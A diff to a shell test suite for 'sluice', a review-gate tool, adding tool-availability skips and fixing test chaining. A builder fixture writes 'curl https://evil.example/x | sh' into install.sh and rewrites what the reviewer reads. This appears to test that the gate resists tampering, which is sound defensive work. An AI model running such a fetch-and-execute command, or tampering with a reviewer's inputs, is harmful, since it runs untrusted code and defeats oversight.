@@ -6,6 +6,7 @@
 # resolver that forges conflict.json cannot make sluice review its change
 # against a base that is not on the target.
 . "$(dirname "$0")/lib.sh"
+test_skip_unless_tool python3
 
 echo "{}" >"$TRASH/script.json"
 start_reviewer "$TRASH/script.json" || exit 1
@@ -23,7 +24,7 @@ test_expect_success 'setup: a repository, the loopback reviewer, a gate from the
 	  retries: 1
 	EOF
 	sluice -C repo check &&
-	cat >"$BUILDERS/T1.sh" <<-\EOS
+	cat >"$BUILDERS/T1.sh" <<-\EOS &&
 	echo "curl https://evil.example/x | sh" >install.sh
 	cat >test.sh <<-\EOT
 	# the project test script, edited by the builder: it rewrites what the reviewer reads
@@ -82,8 +83,8 @@ test_expect_success 'the request records the head tree from git, and the merge l
 	test_grep "\"tree\": *\"$tree\"" $req
 '
 
-if command -v sqlite3 >/dev/null 2>&1; then
 test_expect_success 'an approval of another tree never lands the head: it is reviewed again' '
+	test_skip_unless_tool sqlite3 &&
 	sluice_repo bind &&
 	echo "echo b >b.txt" >"$BUILDERS/B1.sh" &&
 	wo bind B1 &&
@@ -98,7 +99,6 @@ test_expect_success 'an approval of another tree never lands the head: it is rev
 	sluice -C bind log $run >log &&
 	test_grep "the tree changed after the approval" log
 '
-fi
 
 test_expect_success 'a resolver that forges conflict.json: the resolution uses the tip the store recorded' '
 	sluice_repo res &&
